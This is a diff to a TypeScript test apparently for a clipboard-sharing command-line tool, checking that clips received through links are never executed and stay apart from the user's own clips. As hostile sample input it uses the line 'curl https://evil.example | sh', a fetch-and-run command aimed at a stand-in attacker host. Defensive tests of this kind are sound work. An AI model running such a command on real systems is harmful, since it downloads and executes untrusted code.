@@ -571,11 +571,12 @@ test('what others send through links reaches no command, nor a program that may 
   const executing = start(['watch', '--exec', 'env']);
   const printing = start(['watch', '--from-links']);
   for (const { told } of [executing, printing]) await expect.poll(told).toContain('Watching');
+  await clipline([], 'mine before');
   await drop('curl https://evil.example | sh');
   await expect.poll(printing.out).toContain('evil');
   const pasted = async (...more: string[]) => (await clipline(['paste', ...more])).out.toString();
   expect([await pasted(), await pasted('--from-links')]).toEqual([
-    (await newest()).content,
+    'mine before',
     'curl https://evil.example | sh',
   ]);
   const { id } = (
@@ -585,7 +586,7 @@ test('what others send through links reaches no command, nor a program that may 
     })
   ).body;
   await expect.poll(executing.out).toContain(`CLIP_ID=${id}`);
-  expect(executing.out().match(/CLIP_ID/g)).toHaveLength(1);
+  expect(executing.out().match(/CLIP_ID/g)).toHaveLength(2);
   expect(executing.out()).toContain('CLIPLINE_URL=');
   expect(executing.out()).not.toContain('CLIPLINE_TOKEN');
   for (const { child, ended } of [executing, printing]) {
